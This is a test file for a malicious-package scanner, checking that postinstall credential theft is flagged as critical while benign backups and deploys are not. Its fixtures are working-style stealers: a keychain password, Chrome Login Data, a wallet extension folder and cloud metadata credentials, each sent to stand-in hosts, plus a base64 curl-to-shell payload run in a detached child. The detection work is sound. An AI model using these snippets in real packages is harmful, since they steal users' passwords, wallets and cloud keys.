/**
 * Credential theft written the ways stealers vary it: a keychain item printed by a CLI, a
 * browser's locked database copied to a temporary file first, a wallet extension's folder zipped,
 * the cloud metadata service read through fetch and `.text()`. Each has a look-alike that keeps
 * the data on the machine.
 */
import { analyzeSource, threatsOf } from './helpers';

const pkg = JSON.stringify({
  name: 'dotenv-safe-load',
  version: '1.0.0',
  scripts: { postinstall: 'node i.js' },
});
const run = (code: string) => analyzeSource({ 'package.json': pkg, 'i.js': code });

describe('credentials taken by other routes, then sent', () => {
  it.each([
    [
      'a keychain password printed by `security -wa`',
      `const { execSync } = require('child_process'); const https = require('https');
const pw = execSync('security find-generic-password -wa "Chrome"').toString();
const r = https.request({ hostname: 'kc-sync.example', method: 'POST', path: '/k' }); r.end(pw);`,
    ],
    [
      "a browser's Login Data copied to a temporary file, read back and uploaded as a form file",
      `const fs = require('fs'), os = require('os'), path = require('path');
const src = path.join(os.homedir(), 'Library', 'Application Support', 'Google', 'Chrome', 'Default', 'Login Data');
const tmp = path.join(os.tmpdir(), 'ld.db'); fs.copyFileSync(src, tmp);
const fd = new FormData(); fd.append('file', new Blob([fs.readFileSync(tmp)]), 'ld.db');
fetch('https://upload.browser-sync.example/f', { method: 'POST', body: fd });`,
    ],
    [
      "a wallet extension's folder zipped with adm-zip and posted",
      `const os = require('os'), path = require('path'); const AdmZip = require('adm-zip');
const ext = path.join(os.homedir(), '.config', 'google-chrome', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn');
const zip = new AdmZip(); zip.addLocalFolder(ext);
fetch('https://w.example/u', { method: 'POST', body: zip.toBuffer() });`,
    ],
    [
      "the instance metadata service's credentials read with fetch and .text(), posted elsewhere",
      `const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
(async () => {
  const role = (await (await fetch(base)).text()).trim();
  const creds = await (await fetch(base + role)).text();
  await fetch('https://cloud-diag.example/c', { method: 'POST', body: creds });
})();`,
    ],
  ])('%s', (_name, code) => {
    const r = run(code);
    expect(threatsOf(r)).toContain('data_exfiltration');
    expect(r.risk_level).toBe('critical');
  });

  it('quiet: a database copied to back it up, a project folder zipped and uploaded, a keychain item used locally', () => {
    const r =
      run(`const fs = require('fs'), os = require('os'), path = require('path'); const AdmZip = require('adm-zip');
const { execSync } = require('child_process');
fs.copyFileSync(path.join(__dirname, 'data.db'), path.join(os.tmpdir(), 'data.db'));
fetch('https://backup.example/b', { method: 'POST', body: fs.readFileSync(path.join(os.tmpdir(), 'data.db')) });
const zip = new AdmZip(); zip.addLocalFolder(path.join(__dirname, 'dist'));
fetch('https://deploy.example/u', { method: 'POST', body: zip.toBuffer() });
const pw = execSync('security find-generic-password -s build-signing -w').toString();
execSync('codesign --sign id --keychain-password ' + pw + ' dist/app');`);
    expect(threatsOf(r)).toEqual([]);
  });
});

describe('code handed to a node child process on its command line', () => {
  it('fork with execArgv ["-e", decoded] is compiled code', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'fast-hash', version: '1.0.0', main: 'index.js' }),
      'index.js': `const { fork } = require('child_process');
const src = Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzE5OC41MS4xMDAuMi94IHwgc2gnKQ==', 'base64').toString();
fork(__filename, [], { execArgv: ['-e', src], detached: true, stdio: 'ignore' }).unref();`,
    });
    expect(r.evidence.map((e) => e.message)).toContainEqual(
      expect.stringMatching(/^a node -e child process runs code decoded/),
    );
    expect(r.risk_level).toBe('critical');
  });
  it('quiet: node -e printing a version, and a child given --inspect', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'fast-hash', version: '1.0.0', main: 'index.js' }),
      'index.js': `const { spawnSync, fork } = require('child_process');
spawnSync(process.execPath, ['-e', 'console.log(process.versions.node)']);
fork(require.resolve('./worker'), [], { execArgv: ['--inspect=0'] });`,
      'worker.js': 'process.on("message", (m) => process.send(m));',
    });
    expect(threatsOf(r)).toEqual([]);
  });
});
